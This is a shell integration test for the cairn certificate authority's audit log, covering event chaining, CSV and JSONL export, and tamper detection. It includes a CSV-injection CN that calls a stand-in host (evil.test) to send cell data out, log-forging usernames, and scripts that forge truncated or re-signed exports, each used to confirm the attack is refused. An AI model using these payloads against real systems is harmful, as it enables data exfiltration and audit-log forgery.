#!/bin/sh
# SPDX-License-Identifier: MIT
# The audit log: every issuance recorded, chain verifies, export works, tampering is caught.
. "$CAIRN_SRCDIR/tests/integration/lib.sh"

D=$WORK/ca
ca_init "$D" || bail "cairn init failed: $(cat "$D.init.out")"
ca_serve "$D" || bail "cairn serve did not start"
for n in 1 2 3; do
	make_csr "h$n" ec:P-256 "/CN=h$n.example.test" "DNS:h$n.example.test"
	"$CAIRN" issue --dir "$D" --csr "$WORK/h$n.csr" --profile tls-server --out "$WORK/h$n.pem" \
		2>/dev/null || bail "issue failed"
done
curl -s --cacert "$D/ca/root.pem" -H 'Authorization: Bearer cairn_nope' \
	-H 'Content-Type: application/json' -d '{}' "$HTTPS_URL/admin/v1/certificates" >/dev/null

ok "audit verify passes while the daemon runs" "$CAIRN" audit verify --dir "$D"
last_has "  ... and counts the events" "intact: [0-9]+ events"
ok "export jsonl" sh -c "'$CAIRN' audit export --dir '$D' --format jsonl >'$WORK/a.jsonl'"
ok "every issuance is an event with its serial" sh -c "for n in 1 2 3; do
	s=\$(openssl x509 -in '$WORK/h'\$n.pem -noout -serial | cut -d= -f2 | tr A-F a-f)
	grep '\"action\":\"cert.issue\"' '$WORK/a.jsonl' | grep -q \"\$s\" || exit 1; done"
ok "init recorded the hierarchy and the bootstrap token" sh -c "
	[ \$(grep -c '\"action\":\"ca.init\"' '$WORK/a.jsonl') -eq 4 ] &&
	grep -q '\"action\":\"admin.token.create\"' '$WORK/a.jsonl'"
ok "the refused admin call was audited" grep -q '"action":"admin.denied"' "$WORK/a.jsonl"
ok "events chain by prev hash" sh -c "head -n 1 '$WORK/a.jsonl' |
	grep -q '\"prev\":\"0000000000000000000000000000000000000000000000000000000000000000\"'"
ok "export csv has a header and one row per event" sh -c "
	'$CAIRN' audit export --dir '$D' --format csv >'$WORK/a.csv' &&
	head -n 1 '$WORK/a.csv' | grep -q '^seq,time,actor,action,serial,names,details,hash,prev' &&
	[ \$(grep -c '^[0-9]' '$WORK/a.csv') -eq \$(grep -vc '^{\"head\"' '$WORK/a.jsonl') ]"
ok "the JSONL export ends with a head line signed at export time" sh -c "
	tail -n 1 '$WORK/a.jsonl' | grep -q '^{\"head\":{\"seq\":.*\"exported\":\".*\"signature\":\"'"
ok "export --since in the future holds only the signed head line" sh -c "
	'$CAIRN' audit export --dir '$D' --format jsonl --since 2999-01-01 >'$WORK/f.jsonl' &&
	[ \$(wc -l <'$WORK/f.jsonl') -eq 1 ] &&
	grep -q '^{\"head\":{\"seq\":0,\"hash\":\"\",\"events\":0,\"first\":0,\"since\":\"2999-01-01T00:00:00Z\",\"until\":null,' '$WORK/f.jsonl'"
ok "  ... and verifies: nothing in that range" "$CAIRN" audit verify --export "$WORK/f.jsonl" --ca "$D/ca/root.pem"
ok "export --until in the past holds only the head line" sh -c "
	[ \$('$CAIRN' audit export --dir '$D' --format jsonl --until 2000-01-01 | grep -c '\"events\":0,') -eq 1 ]"
fails "a malformed --since is refused (strict RFC 3339: offset +1:00)" \
	"$CAIRN" audit export --dir "$D" --since 2026-01-01T00:00:00+1:00
last_has "  ... saying what it takes" "RFC 3339"
fails "  ... so is an offset of +99:99 through the admin API" sh -c "
	curl -sf --cacert '$D/ca/root.pem' -H \"Authorization: Bearer \$(cat '$D/admin.token')\" \
		'$HTTPS_URL/admin/v1/audit/export?since=2026-01-01T00:00:00%2B99:99'"
# A range that holds no time: refused rather than answered with an empty export.
fails "export --since after --until is refused" "$CAIRN" audit export --dir "$D" \
	--since 2027-01-01 --until 2026-01-01
last_has "  ... saying so" "^cairn audit: --since 2027-01-01 is not before --until 2026-01-01"
last_one_line "  ... in one line"
fails "  ... also with --unsigned" "$CAIRN" audit export --dir "$D" --unsigned \
	--since 2026-01-01 --until 2026-01-01
for ep in audit/export audit; do
	ok "  ... and by the admin API (/$ep: 400 problem)" sh -c "
		curl -s --cacert '$D/ca/root.pem' -H \"Authorization: Bearer \$(cat '$D/admin.token')\" \
			-o '$WORK/range.json' -w '%{http_code}' \
			'$HTTPS_URL/admin/v1/$ep?since=2027-01-01&until=2026-01-01' | grep -qx 400 &&
		jq -e '.detail == \"since must be before until\"' '$WORK/range.json'"
done

# CSV injection: a CN that a spreadsheet would run, in the names column's first place.
make_csr evil ec:P-256 '/CN==HYPERLINK("evil.test?"&A1,"click")'
ok "a certificate with a formula for a CN is issued (tls-client takes any CN)" \
	"$CAIRN" issue --dir "$D" --csr "$WORK/evil.csr" --profile tls-client --out "$WORK/evil.pem"
"$CAIRN" audit export --dir "$D" --format csv --out "$WORK/b.csv" 2>/dev/null
ok "  ... lands in the CSV as text, not as a formula" sh -c "
	grep -q \"^[0-9]*,[^,]*,admin:bootstrap,cert.issue,[0-9a-f]*,\\\"'=hyperlink(\" '$WORK/b.csv'"
cat >"$WORK/cells.py" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
assert rows[0] == "seq,time,actor,action,serial,names,details,hash,prev".split(","), rows[0]
bad = [(r[0], c) for r in rows[1:] for c in r if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
assert not bad, "formula cells: %r" % bad
js = [(r[0], r[6]) for r in rows[1:] if r[6].startswith(("{", "[", "'{"))]
assert not js, "JSON in details cells: %r" % js
assert all(len(r) == 9 for r in rows), "ragged rows"
print("%d rows, no cell starts with = + - @ tab CR LF, details are key=value" % (len(rows) - 1))
PY
ok "  ... no cell of the CSV starts like a formula, details are plain key=value" \
	python3 "$WORK/cells.py" "$WORK/b.csv"

# A truncated export: events cut off the end, the head line redone to match them.
ROOT=$D/ca/root.pem
# refused FILE WHAT REGEX: `audit verify --export $WORK/FILE` fails, saying REGEX.
refused() {
	fails "$2 FAILS verification" "$CAIRN" audit verify --export "$WORK/$1" --ca "$ROOT"
	last_has "  ... saying: $3" "$3"
}
make_csr late ec:P-256 "/CN=late.example.test" "DNS:late.example.test"
ok "signed checkpoints with events between them" sh -c "
	'$CAIRN' audit checkpoint --dir '$D' &&
	'$CAIRN' issue --dir '$D' --csr '$WORK/late.csr' --profile tls-server --out '$WORK/late.pem' &&
	'$CAIRN' audit checkpoint --dir '$D'"
# POST /audit/checkpoint takes no options: an empty body or {}; anything else is a 400 and
# signs nothing (any body was taken, so a caller could think an option it sent took).
# post_cp BODY: the status of a checkpoint with BODY (the answer in $WORK/cp.out).
post_cp() {
	curl -s -o "$WORK/cp.out" -w '%{http_code}' --cacert "$D/ca/root.pem" \
		-H "Authorization: Bearer $(cat "$D/admin.token")" -H 'Content-Type: application/json' \
		-X POST ${1:+--data-binary "$1"} "$HTTPS_URL/admin/v1/audit/checkpoint"
}
checkpoints() {
	curl -s --cacert "$D/ca/root.pem" -H "Authorization: Bearer $(cat "$D/admin.token")" \
		"$HTTPS_URL/admin/v1/audit?action=audit.checkpoint&limit=1000" | jq .total
}
# (an event after the last checkpoint, so that a checkpoint would sign something new)
make_csr cpx ec:P-256 "/CN=cpx.example.test" "DNS:cpx.example.test"
"$CAIRN" issue --dir "$D" --csr "$WORK/cpx.csr" --profile tls-server --out "$WORK/cpx.pem" \
	2>/dev/null || bail "issue failed"
CPS=$(checkpoints)
ok "POST /audit/checkpoint with garbage: 400" [ "$(post_cp 'not json')" = 400 ]
ok "  ... a problem saying the body is not JSON" grep -q 'body is not JSON' "$WORK/cp.out"
ok "POST /audit/checkpoint with an unknown member: 400" [ "$(post_cp '{"before": 5}')" = 400 ]
ok "  ... naming it" grep -q 'unknown member \\"before\\": POST /admin/v1/audit/checkpoint takes no options' \
	"$WORK/cp.out"
ok "POST /audit/checkpoint with a JSON array: 400" [ "$(post_cp '[]')" = 400 ]
ok "  ... none of these signed a checkpoint" [ "$(checkpoints)" = "$CPS" ]
ok "POST /audit/checkpoint with {}: 200" [ "$(post_cp '{}')" = 200 ]
ok "  ... one more checkpoint" [ "$(checkpoints)" = "$((CPS + 1))" ]
ok "POST /audit/checkpoint with no body: 200 (the head is that checkpoint: none more)" \
	[ "$(post_cp '')" = 200 ]
ok "a signed export of the whole log" "$CAIRN" audit export --dir "$D" --out "$WORK/s.jsonl"
last_has "  ... made by the daemon" "signed by the daemon"
ok "  ... verifies offline" "$CAIRN" audit verify --export "$WORK/s.jsonl" --ca "$ROOT"
last_has "  ... complete: signed at export time" "export intact: .*complete: signed at export time .* by .*Issuing CA"
# The issuing CA lasts 1825 days: 1900 days on, the export still verifies (its chain is
# checked at the signed export time); a chain that does not hold is not called tampering.
[ -n "$FAKETIME_LIB" ] || bail "libfaketime is not installed (scripts/deps.sh installs faketime)"
ok "  ... still verifies 1900 days on, after the issuing CA expired" \
	env LD_PRELOAD="$FAKETIME_LIB" FAKETIME=+1900d "$CAIRN" audit verify --export "$WORK/s.jsonl" --ca "$ROOT"
last_has "  ... intact" "export intact: "
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/other.key" \
	-out "$WORK/other-root.pem" -subj "/CN=Another Root" -days 30 2>/dev/null
fails "  ... with another CA's root it FAILS" "$CAIRN" audit verify --export "$WORK/s.jsonl" --ca "$WORK/other-root.pem"
last_has "  ... saying the signer does not chain to it, not that events changed" \
	"does not chain to the given CA at its export time"
# cut.py IN OUT: keeps the events up to the checkpoint before the last one (so that a
# signed checkpoint still ends the export) and redoes the head line for them.
cat >"$WORK/cut.py" <<'PY'
import hashlib, json, sys
lines = open(sys.argv[1], "rb").read().split(b"\n")[:-1]
head = json.loads(lines[-1])
cps = [i for i, l in enumerate(lines[:-1]) if json.loads(l)["action"] == "audit.checkpoint"]
events = lines[:cps[-2] + 1]
assert len(events) < len(lines) - 1
last = events[-1]
head["head"]["seq"] = json.loads(last)["seq"]
head["head"]["hash"] = hashlib.sha256(last).hexdigest()
head["head"]["events"] = len(events)
out = b"\n".join(events + [json.dumps(head, separators=(",", ":")).encode()]) + b"\n"
open(sys.argv[2], "wb").write(out)
PY
ok "  (cut the events after the previous checkpoint, recompute the head line)" \
	python3 "$WORK/cut.py" "$WORK/s.jsonl" "$WORK/cut.jsonl"
refused cut.jsonl "the truncated export" "export BROKEN: line [0-9]+: the export's signature does not verify"
# ... and signed again with a key anyone can get: the leaf certificate issued above.
cat >"$WORK/resign.py" <<'PY'
import base64, json, subprocess, sys
def b64u(b): return base64.urlsafe_b64encode(b).rstrip(b"=").decode()
lines = open(sys.argv[1]).read().split("\n")[:-1]
h = json.loads(lines[-1])["head"]
msg = "cairn-audit-export:v1:first=%d:last=%d:events=%d:hash=%s:since=%s:until=%s:exported=%s" % (
    h["first"], h["seq"], h["events"], h["hash"], h["since"] or "", h["until"] or "", h["exported"])
h["signature"] = b64u(subprocess.run(["openssl", "dgst", "-sha256", "-sign", sys.argv[2]],
                                     input=msg.encode(), capture_output=True, check=True).stdout)
h["cert"] = b64u(subprocess.run(["openssl", "x509", "-in", sys.argv[3], "-outform", "DER"],
                                capture_output=True, check=True).stdout)
lines[-1] = json.dumps({"head": h}, separators=(",", ":"))
open(sys.argv[4], "w").write("\n".join(lines) + "\n")
PY
ok "  (the redone head line signed with the leaf's key, its certificate attached)" \
	python3 "$WORK/resign.py" "$WORK/cut.jsonl" "$WORK/evil.key" "$WORK/evil.pem" "$WORK/forged.jsonl"
ok "  (that leaf chains to the root)" openssl verify -CAfile "$ROOT" -untrusted "$D/ca/issuing.pem" "$WORK/evil.pem"
refused forged.jsonl "an export signed by a leaf certificate of this CA" "signature does not verify"
sed "$(($(wc -l <"$WORK/s.jsonl") - 1))d" "$WORK/s.jsonl" >"$WORK/cut2.jsonl" # the last event
refused cut2.jsonl "an export cut short with its head line kept" "events missing"
sed -E '$s/,"alg":.*\}\}$/}}/' "$WORK/s.jsonl" >"$WORK/nosig.jsonl"
ok "  (the signature removed from the head line)" sh -c "! tail -n 1 '$WORK/nosig.jsonl' | grep -q signature"
refused nosig.jsonl "an export without its signature" "not signed"
sed '$d' "$WORK/s.jsonl" >"$WORK/nohead.jsonl"
refused nohead.jsonl "an export without its head line" "no head line"
refused b.csv "a CSV export" "verify the JSONL export"
# Outside bytes that are not UTF-8: a %ff in an admin path, a Basic user name with a
# newline, a forged log line and a \xff (a user name cannot hold a colon). They must stay in the audit details
# (escaped, never dropped) and never break a log line.
ok "an admin call with %ff and a newline in its path is refused" sh -c "
	[ \$(curl -s -o /dev/null -w '%{http_code}' --cacert '$D/ca/root.pem' \
		-H 'Authorization: Bearer cairn_nope' '$HTTPS_URL/admin/v1/certificates/%ff%0aFORGED') = 401 ]"
printf 'x\nFORGED {"level"="error"}\377:pw' | openssl base64 -A >"$WORK/basic"
ok "an EST enroll with a forged Basic user name is refused" sh -c "
	[ \$(curl -s -o /dev/null -w '%{http_code}' --cacert '$D/ca/root.pem' \
		-H \"Authorization: Basic \$(cat '$WORK/basic')\" -H 'Content-Type: application/pkcs10' \
		--data-binary x '$HTTPS_URL/.well-known/est/simpleenroll') = 401 ]"
"$CAIRN" audit export --dir "$D" --out "$WORK/o.jsonl" 2>/dev/null
cat >"$WORK/details.py" <<'PY'
import json, sys
events = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8") if not l.startswith('{"head"')]
adm = [e for e in events if e["action"] == "admin.denied" and "FORGED" in e["details"].get("path", "")]
assert adm, "no admin.denied event with the path in its details"
d = adm[-1]["details"]
assert d["path"] == "/certificates/\ufffd\nFORGED", d
assert d["remote"] and d["reason"] and d["method"] == "GET", d
est = [e for e in events if e["action"] == "est.refused" and "FORGED" in e["details"].get("reason", "")]
assert est, "no est.refused event with the user name in its details"
r = est[-1]["details"]["reason"]
# EST shows outside bytes of a user name as \xHH in its answers and reasons (est/auth.c):
# the name is kept, the newline and the invalid byte visible, never raw.
assert r.startswith('user x\\x0aFORGED {"level"="error"}\\xff'), r
print("details kept: %r / %r" % (d["path"], r))
PY
ok "  ... both refusals keep their details, the bad bytes escaped (U+FFFD, \\xHH)" python3 "$WORK/details.py" "$WORK/o.jsonl"
cat >"$WORK/loglines.py" <<'PY'
import json, sys
n = 0
seen = {}
for i, line in enumerate(open(sys.argv[1], "rb"), 1):
    try:
        o = json.loads(line.decode("utf-8"))
    except Exception as e:
        sys.exit("log line %d is not one JSON object (%s): %r" % (i, e, line))
    assert isinstance(o, dict) and {"ts", "level", "component", "msg"} <= set(o), line
    if o["msg"] in ("call refused", "request refused") and "FORGED" in json.dumps(o):
        seen[o["msg"]] = o
    n += 1
for msg, keys in (("call refused", {"remote", "path", "user", "reason"}),
                  ("request refused", {"remote", "user", "reason"})):
    assert msg in seen, "no structured %r line" % msg
    assert keys <= set(seen[msg]), seen[msg]
assert seen["call refused"]["path"] == "/certificates/\ufffd\nFORGED"
print("%d log lines, each one JSON object" % n)
PY
ok "every line of the daemon's log is one JSON object, refusals with remote/path/user/reason" \
	python3 "$WORK/loglines.py" "$D.serve.log"

fails "bad --format is refused" "$CAIRN" audit export --dir "$D" --format xml
ok "every certificate in the database passes certlint" lint_db "$D"
ca_stop

fails "without the daemon a JSONL export is refused" "$CAIRN" audit export --dir "$D" --out "$WORK/u.jsonl"
last_has "  ... a signed export needs the running daemon" "a signed export needs the running daemon.*not running"
last_one_line "  ... in one line"
ok "--unsigned exports from the database" "$CAIRN" audit export --dir "$D" --unsigned --out "$WORK/u.jsonl"
last_has "  ... saying so" "UNSIGNED"
refused u.jsonl "  ... and it" "not signed"
ok "CSV needs no daemon (a report, never signed)" "$CAIRN" audit export --dir "$D" --format csv --out "$WORK/c.csv"

SEQ=5
ok "tamper tool flips one byte of event $SEQ" "$CAIRN_TOOLS/tools/audit_tamper" "$D/db" $SEQ
fails "audit verify FAILS after one byte changed" "$CAIRN" audit verify --dir "$D"
last_has "  ... naming the first broken sequence" "sequence $SEQ"
last_one_line "  ... in one line"

done_testing
